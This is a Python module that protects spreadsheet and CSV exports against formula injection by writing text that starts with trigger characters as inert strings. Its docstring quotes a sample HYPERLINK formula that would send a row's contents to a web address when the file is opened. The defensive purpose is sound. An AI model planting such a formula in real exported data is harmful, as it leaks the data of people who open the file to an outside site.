"""Spreadsheet and CSV cells that cannot turn into formulas (issue 16 §3).

Names, addresses, notes and feed values are typed by people outside the bureau. Written as they are, a
name like ``=HYPERLINK("http://…?x="&A1,"点击")`` becomes a live formula in Excel/WPS: it can send the
row to a web site or run a command (OWASP, "CSV Injection"). Text that starts with ``= + - @``, a tab
or a carriage return is therefore written inert:

- ``.xlsx`` (openpyxl): the cell keeps the exact text, typed as a string and styled ``quotePrefix`` (what
  Excel itself stores when a user types a leading apostrophe), so it shows as text and stays text when
  edited;
- CSV: the text is prefixed with a single quote ``'``, OWASP's recommendation; a CSV has no cell types.

Numbers, dates and booleans stay typed; a number written as text (``"-12.50"``) is not a formula and is
left as it is. Every exporter writes its rows through ``xlsx_append`` / ``csv_writer``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any, Final

from openpyxl.cell import WriteOnlyCell

TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


def formula_like(value: object) -> bool:
    """Text a spreadsheet program would read as a formula (or a formula after a tab/CR)."""
    return isinstance(value, str) and value.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value)


def xlsx_cell(sheet: Any, value: object) -> object:
    """``value`` itself, or, for formula-like text, a string cell with ``quotePrefix`` (works for normal
    and write-only worksheets; ``sheet.append`` accepts either)."""
    if not formula_like(value):
        return value
    cell = WriteOnlyCell(sheet, value)
    cell.data_type = "s"  # openpyxl types any text starting with "=" as a formula
    cell.quotePrefix = True
    return cell


def xlsx_row(sheet: Any, values: Iterable[object]) -> list[object]:
    row = list(values)
    for index, value in enumerate(row):
        if isinstance(value, str) and value.startswith(TRIGGERS):  # fast path: most cells are not text
            row[index] = xlsx_cell(sheet, value)
    return row


def xlsx_append(sheet: Any, values: Iterable[object]) -> None:
    """``sheet.append(values)`` with every formula-like text written inert."""
    sheet.append(xlsx_row(sheet, values))


def csv_cell(value: object) -> object:
    return "'" + value if isinstance(value, str) and formula_like(value) else value


def csv_row(values: Iterable[object]) -> list[object]:
    """A CSV record with every formula-like text prefixed by ``'``."""
    return [csv_cell(value) for value in values]


class InertCsvWriter:
    """``csv.writer`` whose records go through ``csv_row``."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, values: Iterable[object]) -> None:
        self._writer.writerow(csv_row(values))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(out: IO[str], **options: Any) -> InertCsvWriter:
    """Use instead of ``csv.writer(out, **options)`` for any CSV a person may open in a spreadsheet."""
    return InertCsvWriter(out, **options)
